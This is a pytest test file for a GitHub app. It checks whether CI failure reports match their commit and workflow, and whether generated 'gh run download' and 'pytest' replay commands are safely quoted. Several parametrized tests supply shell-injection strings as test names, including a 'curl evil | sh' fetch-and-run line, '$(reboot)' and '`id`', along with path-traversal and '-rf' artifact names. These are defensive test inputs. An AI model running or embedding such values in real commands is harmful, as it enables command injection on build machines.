"""T16: a report is believed as far as GitHub's own facts agree with it, and what it wants run is put in our words."""

from __future__ import annotations

import shlex
from dataclasses import replace

import pytest
from gates import job

from github_app.github.artifacts import ReportFile
from github_app.github.vouching import doubt, with_replay
from github_app.rules.model import ReportedFailure
from pytest_failure_review.report import Category

HEAD, MERGE, OTHER = "a" * 40, "b" * 40, "c" * 40
PULL_JOB = replace(job(), workflow="CI", event="pull_request")


def written(sha: str, workflow: str = "CI") -> ReportFile:
    return ReportFile(sha=sha, workflow=workflow)


def failure(nodeid: str) -> ReportedFailure:
    return ReportedFailure(nodeid, "call", "failed", Category.TEST_UNIT, "an assertion failed", 0.4, "assert 0")


@pytest.mark.parametrize("event", ["push", "pull_request", "merge_group"])
def test_a_report_of_the_runs_own_commit_is_not_doubted(event: str) -> None:
    assert doubt(written(HEAD), replace(PULL_JOB, event=event), HEAD, ()) == ""


def test_a_report_of_the_merge_of_that_commit_is_not_doubted() -> None:
    assert doubt(written(MERGE), PULL_JOB, HEAD, (OTHER, HEAD)) == ""


def test_a_merge_of_another_commit_is_doubted() -> None:
    assert doubt(written(MERGE), PULL_JOB, HEAD, (OTHER,)) == "it names another commit"


def test_on_a_push_no_merge_counts() -> None:
    assert doubt(written(MERGE), replace(PULL_JOB, event="push"), HEAD, (HEAD,)) == "it names another commit"


def test_another_workflow_is_doubted() -> None:
    assert doubt(written(HEAD, "Nightly"), PULL_JOB, HEAD, ()) == "it names another workflow"


@pytest.mark.parametrize(("said", "known"), [("", HEAD), (HEAD, "")])
def test_a_report_without_a_commit_to_compare_is_doubted(said: str, known: str) -> None:
    assert doubt(written(said), PULL_JOB, known, ()) == "the commit that it was written for is not known"


def test_a_failure_is_fetched_and_run_again_by_two_commands() -> None:
    [told] = with_replay([failure("tests/test_cart.py::test_total[1 & 2]")], 50, "failure-review-unit-0-1")
    assert told.replay == (
        "gh run download 50 --name failure-review-unit-0-1 --dir failure-review-unit-0-1 && "
        "pytest '--failure-review-replay=failure-review-unit-0-1#tests/test_cart.py::test_total[1 & 2]'"
    )


@pytest.mark.parametrize("nodeid", ["a'; curl evil | sh #", "$(reboot)", "`id`", '"; id; "', "--help", "a && b"])
def test_no_name_of_a_test_is_a_command_of_its_own(nodeid: str) -> None:
    [told] = with_replay([failure(nodeid)], 50, "failure-review-unit-0-1")
    *_, pytest_, option = shlex.split(told.replay)
    assert (pytest_, option) == ("pytest", f"--failure-review-replay=failure-review-unit-0-1#{nodeid}")


@pytest.mark.parametrize("nodeid", ["a\nreboot", "a\x1b[2J", "x" * 1000, "a\u202eb"])
def test_a_name_that_cannot_be_shown_gives_no_command(nodeid: str) -> None:
    assert with_replay([failure(nodeid)], 50, "failure-review-unit-0-1")[0].replay == ""


@pytest.mark.parametrize("artifact", ["", "a b", "$(id)", "-rf", "a;b", "../a"])
def test_an_artifact_with_an_odd_name_gives_no_command(artifact: str) -> None:
    assert with_replay([failure("tests/test_cart.py::test_total")], 50, artifact)[0].replay == ""
